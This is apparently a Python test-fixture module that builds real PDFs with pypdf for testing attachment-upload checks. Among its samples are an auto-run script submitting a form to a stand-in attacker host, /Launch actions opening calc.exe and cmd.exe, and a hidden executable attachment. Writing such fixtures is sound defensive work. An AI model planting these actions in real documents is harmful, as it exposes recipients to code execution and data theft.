"""Real PDFs for tests: made with pypdf, whole and parseable, each with the content a test
needs (active content, a given size). Friendlier data would let the attachment checks pass
files that a real upload would not be."""

import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _one_page() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf_of_size(size: int) -> bytes:
    """A real, whole PDF of exactly ``size`` bytes: one page whose content stream is padded
    with a comment (a stream is read by its length, so big ones stay quick to parse)."""
    padding = 0
    for _attempt in range(4):
        writer = _one_page()
        if padding:
            stream = DecodedStreamObject()
            stream.set_data(b"%" + b"0" * (padding - 1))
            writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
        content = _written(writer)
        if len(content) == size:
            return content
        padding += size - len(content)
    raise AssertionError(f"could not make a PDF of {size} bytes")


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(kind)
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def pdf_with_javascript() -> bytes:
    """A document-level script, in the catalog's /Names /JavaScript tree."""
    writer = _one_page()
    script = writer._add_object(_action("/JavaScript", JS="app.alert('hello');"))
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("greeting"), script])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _written(writer)


def pdf_with_open_action_script() -> bytes:
    """/OpenAction running JavaScript when the file is opened."""
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = _action(
        "/JavaScript", JS="this.submitForm('https://attacker.example/');"
    )
    return _written(writer)


def pdf_with_launch() -> bytes:
    """A /Launch action on opening, and one on a link annotation of the page."""
    writer = _one_page()
    writer.root_object[NameObject("/OpenAction")] = _action("/Launch", F="calc.exe")
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 100)]),
            NameObject("/A"): _action("/Launch", F="cmd.exe"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    """A Windows program hidden in the /EmbeddedFiles tree."""
    writer = _one_page()
    writer.add_attachment("setup.exe", b"MZ\x90\x00" + b"\x00" * 60)
    return _written(writer)


def plain_pdf() -> bytes:
    return _written(_one_page())


def pdf_encrypted(user_password: str, *, script: bool = False) -> bytes:
    """A PDF encrypted with AES-256. With an empty ``user_password`` it opens without one (only
    editing and printing are restricted, as accounting software often does); ``script`` adds a
    document-level script."""
    writer = _one_page()
    if script:
        writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS="app.alert(1);")
    writer.encrypt(user_password=user_password, owner_password="eigenaar", algorithm="AES-256")
    return _written(writer)
